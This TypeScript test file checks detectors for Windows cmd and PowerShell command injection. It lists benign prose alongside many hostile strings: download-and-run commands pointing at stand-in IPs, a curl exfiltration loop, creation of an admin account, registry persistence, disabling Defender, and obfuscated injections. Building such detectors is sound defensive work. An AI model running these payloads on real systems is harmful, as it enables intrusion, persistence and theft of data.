import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Detector } from '../types.js';
import { DETECTORS, detectPowerShellCommand, detectWindowsCmdControl, detectWindowsCommand } from './windows-command.js';

const inQuery = { location: 'query:q' };

function assertReports(detector: Detector, attack: string): void {
  const hit = detector(attack, inQuery);
  assert.ok(hit, attack);
  assert.ok(hit.start >= 0 && hit.end <= attack.length && hit.start < hit.end, `${attack}: span ${hit.start}-${hit.end}`);
}

/** Text that mentions loops, conditions, Windows tools and PowerShell the way people write it. */
const PROSE = [
  'for each item in the list do something useful',
  'for all users in (group A) do the following',
  'Looking for 100% in (cotton) do you have it?',
  'if it exists, skip it',
  'if not defined, the default value is used',
  'If defined the value overrides the config',
  'if exist then continue',
  'What if a == b? Then we are done.',
  'if a == b then return end',
  'if x==1: print(x)',
  'if (a == b) { return c; }',
  'if (a==b) return c;',
  'if ($a == $b) echo "same";',
  'if [ "$a" == "$b" ]; then echo ok; fi',
  'IF EXISTS (SELECT 1 FROM users) DROP TABLE users',
  'IF NOT EXISTS (SELECT * FROM t) INSERT INTO t VALUES (1)',
  'if a == b {',
  'if err == nil { return }',
  'if (err == NULL) goto out;',
  "if line == 'where flags are':",
  'if record.msg == "[present-rich] %s" and len(record.args) == 1:',
  'if token==null at end of any token rule, it creates one',
  'if the form is valid, submit it; more details below',
  'if3q a==b foo',
  'iffoo a==b foo',
  'Invoke Web Request http://example.com/path/file.ps1',
  'Tom & Jerry; more soon',
  'R&D | type of work: copy editing',
  'net users grew; net user count is up 5%',
  'https://example.com/?a=1&whoami=2&cmd=foo&start=3',
  'I use Windows; WSL is great and cmd is fine',
  'Use the well-known Get-Process cmdlet to list processes.',
  'start; stop; pause',
  'format: json; type: object; sort: asc',
  'A brief overview of methods is presented here; for detailed coverage, see the cross-referenced articles.',
  'I have no money, but I’m gonna push through; if nothing happens by the end of next year, it’s a sign I need to move back home.',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36',
  'text/html;charset=utf-8',
  'the new-object pattern; invoke-expression is discussed later',
  'powershell is a shell; so is bash',
  'Download the file (see .Download section)',
];

describe('windows-command detectors', () => {
  it('exports its detectors by rule name', () => {
    assert.equal(DETECTORS['windows-cmd-control'], detectWindowsCmdControl);
    assert.equal(DETECTORS['windows-command'], detectWindowsCommand);
    assert.equal(DETECTORS['powershell-command'], detectPowerShellCommand);
  });

  for (const benign of PROSE) {
    it(`passes ${JSON.stringify(benign.slice(0, 50))}`, () => {
      for (const [name, detector] of Object.entries(DETECTORS)) assert.equal(detector(benign, inQuery), undefined, name);
    });
  }
});

describe('windows-cmd-control', () => {
  for (const attack of [
    'for %i in (*) do type %i',
    'for %%G in (a,b,c) do (md C:\\demo\\%%G)',
    'for /d %x in (C:\\Users\\*) do echo %x',
    'FOR /R C:\\temp\\ %G IN (*.bak) DO del "%G"',
    'for /l %n in (1,1,100) do ping -n 1 10.0.0.%n',
    `for /f "tokens=*" %i in ('whoami') do curl http://203.0.113.9/?u=%i`,
    'for /f "usebackq delims=" %a in (`type C:\\secret.txt`) do @echo %a',
    '& FOR /F "delims=" %G IN (\'SET\')DO @Echo %G',
    'f^o^r %i in (x) do c^a^l^c',
    'x" & for %a in (1) do calc & "',
    'if exist C:\\Windows\\win.ini type C:\\Windows\\win.ini',
    '&if not exist C:\\x.txt (echo pwned > C:\\x.txt)',
    '| IF DEFINED USERNAME echo %USERNAME%',
    'if errorlevel 1 goto fail',
    'if %ERRORLEVEL% NEQ 0 exit /b 1',
    'IF /I "%1"=="admin" start calc',
    'if not "%~1"=="" (shift)',
    'if (2 GEQ 15) echo bigger',
    'if a==b foo',
    'if/i a==b foo',
    '@if "!VAR!"=="x" @echo ok',
  ]) {
    it(`reports ${JSON.stringify(attack)}`, () => assertReports(detectWindowsCmdControl, attack));
  }

  for (const benign of ['for %', 'for %i in (set)', 'for %i in (set) document', 'if a==b', 'if a==b then', 'ifq a==b foo']) {
    it(`passes ${JSON.stringify(benign)}`, () => assert.equal(detectWindowsCmdControl(benign, inQuery), undefined));
  }
});

describe('windows-command', () => {
  for (const attack of [
    'cmd=; regedit /E c:\\ads\\file.txt:regfile.reg HKEY_CURRENT_USER\\MyCustomRegKey',
    'view=image.jpg&bcdboot < file.txt',
    'view=image.jpg&bcdboot/r file.txt',
    'test@example.org"|bcdboot %SYSTEMROOT%\\win.ini',
    '; mshta http://203.0.113.9/x.hta',
    '| certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe',
    '&& bitsadmin /transfer j http://203.0.113.9/a.exe C:\\a.exe',
    '& rundll32 shell32.dll,Control_RunDLL',
    '| w^h^o^a^m^i',
    '1;whoami',
    '& net user hacker P@ssw0rd /add',
    '& net localgroup administrators hacker /add',
    '|reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\x.exe',
    '& C:\\Windows\\System32\\wmic.exe process call create calc',
    '& type C:\\Windows\\win.ini',
    '& echo %PATH% > C:\\inetpub\\wwwroot\\x.txt',
    'ipconfig /all',
    'cmd /c whoami',
    'cmd.exe /q /c "dir C:\\"',
    'x & %COMSPEC% /c calc',
    'powershell C:\\windows\\system32\\notepad.exe',
    'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIA',
    'pwsh -c "Get-Process"',
    'powershell.exe -ExecutionPolicy Bypass -File x.ps1',
    '& w"h"o"a"m"i /priv',
    '& regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll',
    '& start /b calc',
    '& copy \\\\203.0.113.9\\share\\nc.exe C:\\nc.exe',
    ' dir c:/',
    'type C:\\boot.ini',
    'dir /s C:\\Users',
  ]) {
    it(`reports ${JSON.stringify(attack)}`, () => assertReports(detectWindowsCommand, attack));
  }

  for (const benign of [
    // a line of prose that starts with a builtin's name and links in Markdown: `<` before a URL is no redirection
    'Reach your users at any time.\nMore information is available at <https://developer.example.com/verify>',
    'regedit ',
    'whoami',
    'net user',
    'type the name',
    'cmd is fine',
    'copy & paste',
    'Q&A; echo chamber',
    'AT&T',
    'I ran `ipconfig /all` and `whoami`',
    'MSBuild install directory, e.g. c:\\Program Files',
    'call the `/whoami` endpoint; see api/v1/tasklist',
    'TypeError("attrib must be dict")',
    'set(path "c:/a")',
    'the command with cmd /c</code>. Ninja may fail',
    'Windows PowerShell ([#2996](https://example.com/issues/2996))',
    'set -x',
    'Type C:\\ into the path field and press enter',
    'copy C:\\a.txt to the shared drive',
  ]) {
    it(`passes ${JSON.stringify(benign)}`, () => assert.equal(detectWindowsCommand(benign, inQuery), undefined));
  }
});

describe('powershell-command', () => {
  for (const attack of [
    'Invoke-WebRequest http://example.com/path/file.ps1',
    'Invoke-Expression -Command file.ps1',
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
    'Start-Process -FilePath calc.exe',
    'New-Object System.Net.WebClient',
    'iwr -useb http://203.0.113.9/a.ps1 | iex',
    ';iwmi -class Win32_process -name Create -ArgumentList cmd',
    ';iex (iwr http://10.0.10.10:8000/x.ps1)',
    'I`nvoke-Ex`pression "calc"',
    '[System.Reflection.Assembly]::Load($bytes)',
    'iex(iwr http://203.0.113.9/a.ps1 -UseBasicParsing)',
    '; Get-Content C:\\Windows\\win.ini',
    'x | Out-File -FilePath C:\\inetpub\\wwwroot\\s.aspx',
    'Set-MpPreference -DisableRealtimeMonitoring $true',
  ]) {
    it(`reports ${JSON.stringify(attack)}`, () => assertReports(detectPowerShellCommand, attack));
  }

  for (const benign of [
    'Invoke-WebRequest',
    'Invoke-WebRequest.',
    'iex',
    'Remove-Item is a cmdlet',
    'New-Object System.Collections.ArrayList',
    'IEX (the exchange) listed it',
    'return this.downloadFile(url, maxLength)',
    'see (ii) and (iii); get-well cards',
  ]) {
    it(`passes ${JSON.stringify(benign)}`, () => assert.equal(detectPowerShellCommand(benign, inQuery), undefined));
  }
});
